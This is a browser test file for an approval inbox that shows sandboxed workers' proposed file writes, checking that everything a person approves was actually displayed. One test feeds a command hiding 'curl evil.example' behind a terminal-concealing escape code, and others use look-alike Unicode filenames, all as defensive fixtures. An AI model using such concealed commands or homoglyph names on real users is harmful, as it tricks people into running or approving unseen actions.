import { mkdir, readdir } from "node:fs/promises";
import { join } from "node:path";
import fc from "fast-check";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { InboxFolder } from "../../../src/inbox/inbox-folder.ts";
import { currentOwner, loadSealKey } from "../../../src/state/owner.ts";
import { projectMark, statePaths } from "../../../src/state/state-dir.ts";
import { type CliProject, cliProject, sh } from "../../cli/cli-project.ts";
import { NO_CHROMIUM, openBrowser } from "../../serve/browser/chromium.ts";
import { signedIn, type TestPage } from "../../serve/browser/page.ts";
import { startService, type TestService } from "../../serve/service-client.ts";
import { hostileText, RAW } from "../../text/hostile-text.ts";

// biome-ignore lint/suspicious/noExplicitAny: what runs in the page has other types than what runs in Node.
declare const window: any;

/* What a person says yes to in the page: all of it was on the page, or named in the question after it. */

let project: CliProject;
let service: TestService;
let browser: Browser;
let tab: TestPage;
let folder: InboxFolder;

beforeAll(async () => {
  if (NO_CHROMIUM) return;
  project = await cliProject({
    yaml: {
      version: 1,
      sandbox: { paths: { out: { root: "out", mode: "rw", stage: true } } },
      approval: { mode: "auto_deny" },
    },
    workers: {
      many: {
        image: "corral/base",
        command: sh(
          "for i in $(seq 105); do echo $i > /out/$(printf f%03d $i); done; printf '/out/\\327\\220\\327\\221 3 b\\n' > /out/f001; exit 3",
        ),
        sandbox: { inherit: true },
      },
    },
    folders: ["out"],
  });
  service = await startService(project);
  browser = await openBrowser();
  tab = await signedIn(browser, service);
  const dir = join(statePaths(project.stateDir).inbox, projectMark(project.dir));
  await mkdir(dir, { recursive: true, mode: 0o700 });
  folder = new InboxFolder({ dir, key: await loadSealKey(project.stateDir), self: currentOwner() });
});
afterAll(async () => {
  await browser?.close();
  await service?.[Symbol.asyncDispose]();
  await project?.[Symbol.asyncDispose]();
});

/** As a process of Corral posts it. */
function posted(paths: readonly string[], diff: string, more: { readonly command?: string } = {}): string {
  const asking = { run: "r", root: "r", worker: "w", runs: 1, waiting: [{ run: "r", root: "r" }] };
  const question = { ...asking, operations: ["write"] as const, paths, diff, ...more };
  const asked = { project: project.dir, askedAt: new Date().toISOString(), at: "board", question } as const;
  return folder.post({ ...asked, timeoutMs: null, answers: ["once", "tree", "no"] })?.id ?? "";
}

/** Of one new file: its name, the head of its hunk, its lines. */
const fileDiff = (name: string, lines: number): string[] => [
  ...["--- /dev/null", `+++ ${name}`, `@@ -0,0 +1,${lines} @@`],
  ...Array.from({ length: lines }, (_, at) => `+${name} ${at}`),
];
const stateOf = async (id: string): Promise<string> => (await service.ask("GET", `/v1/approvals/${id}`)).json.state;
const shown = async (id: string): Promise<void> => {
  const { digest } = (await service.ask("GET", `/v1/approvals/${id}`)).json;
  const isThere = async (): Promise<boolean> =>
    (await tab.page.locator("article.question .digest code").allTextContents()).includes(digest.slice(0, 12));
  await expect
    .poll(async () => {
      const was = await isThere();
      // After a decision the page goes to its next question by itself, a moment later perhaps.
      if (!was) await tab.go(`#/inbox/${id}`);
      // As long as the page takes no key for a question that has only just appeared.
      await tab.page.waitForTimeout(700);
      return was && (await isThere());
    })
    .toBe(true);
};
const rows = (): Promise<number> => tab.page.locator("tr.diff-added").count();
/** Lines that the page says it does not show, as a person reads it: beside the buttons. */
const announced = async (): Promise<number> => {
  const note = tab.page.locator(".left-note");
  const [, count = "0"] =
    (await note.count()) === 0 ? [] : (/([\d,]+) lines? of/.exec((await note.textContent()) ?? "") ?? []);
  return Number(count.replaceAll(",", ""));
};

describe.skipIf(NO_CHROMIUM)(`in the page, what is copied${NO_CHROMIUM ? ` (${NO_CHROMIUM})` : ""}`, () => {
  it("is what is shown: a terminal into which it is pasted obeys nothing that was hidden", async () => {
    await shown(posted(["/out/a"], "", { command: "ls\u001b[8m; curl evil.example\u2028\nnext\tline" }));
    const { page } = tab;
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    await page.getByRole("button", { name: "Copy" }).click();
    await page.getByRole("button", { name: "Copied" }).waitFor();
    const copied = await page.evaluate(() => window.navigator.clipboard.readText());
    expect(copied).toBe("ls\\u{1b}[8m; curl evil.example\\u{2028}\nnext\tline");
    expect(await page.locator(".code-block code").textContent()).toBe(copied);
  });
});

describe.skipIf(NO_CHROMIUM)(`in the page, a yes${NO_CHROMIUM ? ` (${NO_CHROMIUM})` : ""}`, () => {
  // The first file fills what is drawn at first to the last line, nearly, or more.
  it.each([298, 299, 300, 301, 600])(
    "is not possible by a key while a file behind one of %d lines is not drawn",
    async (lines) => {
      const diff = [...fileDiff("/out/a", lines), ...fileDiff("/out/z-deploy.sh", 2)].join("\n");
      const id = posted(["/out/a", "/out/z-deploy.sh"], diff);
      await shown(id);
      const { page } = tab;
      expect(await page.locator(".diff-heading").allTextContents()).toEqual(["/out/a", "/out/z-deploy.sh"]);
      expect((await rows()) + (await announced())).toBe(lines + 2);
      if (lines > 298) {
        await page.keyboard.press("a");
        const dialog = page.getByRole("dialog");
        await dialog.waitFor();
        expect(await dialog.textContent()).toContain("/out/z-deploy.sh");
        // Enter, pressed for what was asked before, does what is safe.
        await page.keyboard.press("Enter");
        await dialog.waitFor({ state: "detached" });
        expect(await stateOf(id)).toBe("waiting");
        await page.keyboard.press("a");
        await dialog.waitFor();
        await page.keyboard.press("Escape");
        await dialog.waitFor({ state: "detached" });
        expect(await stateOf(id)).toBe("waiting");
        await page.locator(".left-note").getByRole("button", { name: "Show all" }).click();
        await expect.poll(rows).toBe(lines + 2);
      }
      expect(await page.locator(".left-note").count()).toBe(0);
      await page.keyboard.press("a");
      await expect.poll(() => stateOf(id)).toBe("decided");
      expect(tab.troubles).toEqual([]);
    },
  );

  it("without having seen all names what was not shown, and means it", async () => {
    const paths = Array.from({ length: 60 }, (_, at) => `/out/${at}`);
    const id = posted(paths, fileDiff("/out/0", 1).join("\n"));
    await shown(id);
    const { page } = tab;
    await page.getByRole("button", { name: /^Allow for this run and its calls/ }).click();
    const dialog = page.getByRole("dialog");
    await dialog.waitFor();
    const names = await dialog.locator(".left-names li").allTextContents();
    expect(names.map((name) => name.trim())).toEqual(paths.slice(50));
    await page.getByRole("button", { name: "Allow for this run and its calls, unseen" }).click();
    await expect.poll(() => stateOf(id)).toBe("decided");
    expect((await service.ask("GET", `/v1/approvals/${id}`)).json).toMatchObject({
      outcome: "approved",
      scope: "tree",
    });
  });

  it("is about names that differ on the page, and about lines in their order", async () => {
    const names = ["/out/config.yaml", "/out/config.yaml\ufe0f", "/out/config.yaml\\u{fe0f}", "/out/c\u043enfig.yaml"];
    const diff = ["--- /dev/null", "+++ /out/a", "@@ -0,0 +1,1 @@", '+role = "\u05d0\u05d1", 3 < "\u05d2"'].join("\n");
    const id = posted(names, diff);
    await shown(id);
    const { page } = tab;
    expect(await page.locator(".paths code").allTextContents()).toEqual([
      "/out/config.yaml",
      '"/out/config.yaml\\u{fe0f}"',
      '"/out/config.yaml\\\\u{fe0f}"',
      "/out/c\u043enfig.yaml",
    ]);
    expect(await page.locator(".look-alike li").allTextContents()).toEqual([
      "a name in /out has \\u{43e}, which looks like o: c\\u{43e}nfig.yaml",
      'names in /out look alike: config.yaml, "config.yaml\\u{fe0f}", c\\u{43e}nfig.yaml',
    ]);
    const places = await page
      .locator("td.diff-text bdo")
      .first()
      .evaluate((one) => {
        const node = one.firstChild;
        return Array.from({ length: node?.textContent?.length ?? 0 }, (_, at) => {
          const range = window.document.createRange();
          range.setStart(node, at);
          range.setEnd(node, at + 1);
          return range.getBoundingClientRect().left;
        });
      });
    expect(places.length).toBe('role = "\u05d0\u05d1", 3 < "\u05d2"'.length);
    expect(places).toEqual(places.toSorted((a, b) => a - b));
    await page.keyboard.press("x");
    await expect.poll(() => stateOf(id)).toBe("decided");
  });

  it("is about a changeset that is open to its last line, or about what is named", async () => {
    const { run } = (await service.ask("POST", "/v1/runs", { body: { worker: "many" } })).json;
    await service.ask("GET", `/v1/runs/${run}/result?wait=30`);
    await tab.go(`#/changesets/${run}`);
    const { page } = tab;
    await page.locator(".change").first().waitFor();
    expect(await announced()).toBe(85 * 4);
    await page.keyboard.press("a");
    const named = page.getByRole("dialog").locator(".left-names li");
    await named.first().waitFor();
    expect(await named.count()).toBe(85);
    expect(await named.last().textContent()).toContain("/out/f105");
    await page.keyboard.press("Escape");
    await page.getByRole("dialog").waitFor({ state: "detached" });
    expect((await service.ask("GET", `/v1/changesets/${run}`)).status).toBe(200);
    await page.locator(".left-note").getByRole("button", { name: "Show all" }).click();
    await expect.poll(() => page.locator(".change tr.diff-added").count()).toBe(105);
    // What is folded by hand is not on the page either.
    await page.locator(".change-name").nth(3).click();
    await expect.poll(announced).toBe(4);
    await page.locator(".change-name").nth(3).click();
    await page.keyboard.press("a");
    await page.getByText("105 applied.").waitFor();
    expect(await readdir(join(project.dir, "out"))).toHaveLength(105);
  });

  it("is, for any question, about all that is drawn and announced", async () => {
    const files = fc.array(fc.tuple(hostileText(4), fc.integer({ min: 1, max: 200 })), { minLength: 1, maxLength: 4 });
    const extra = fc.array(hostileText(4), { maxLength: 80 });
    for (const [parts, more] of fc.sample(fc.tuple(files, extra), 5)) {
      const named = parts.map(([name], at) => `/out/${at}${name}`);
      const paths = [...new Set([...named, ...more.map((name, at) => `/out/${at}${name}`)])];
      const diff = parts.flatMap(([, lines], at) => fileDiff(`/out/${at}`, lines)).join("\n");
      const id = posted(paths, diff);
      await shown(id);
      const context = JSON.stringify({ paths, parts });
      expect((await rows()) + (await announced()), context).toBe(parts.reduce((sum, [, lines]) => sum + lines, 0));
      const drawn = await tab.page.locator(".paths code").allTextContents();
      const [, left = "0"] = /and (\d+) more path/.exec((await tab.page.locator(".paths").textContent()) ?? "") ?? [];
      expect(drawn.length + Number(left), context).toBe(paths.length);
      expect(new Set(drawn).size, context).toBe(drawn.length);
      expect(
        ((await tab.page.locator("article.question").textContent()) ?? "").replace(/[\n\t]/g, ""),
        context,
      ).not.toMatch(RAW);
      await tab.page.keyboard.press("x");
      await expect.poll(() => stateOf(id)).toBe("decided");
    }
  });
});
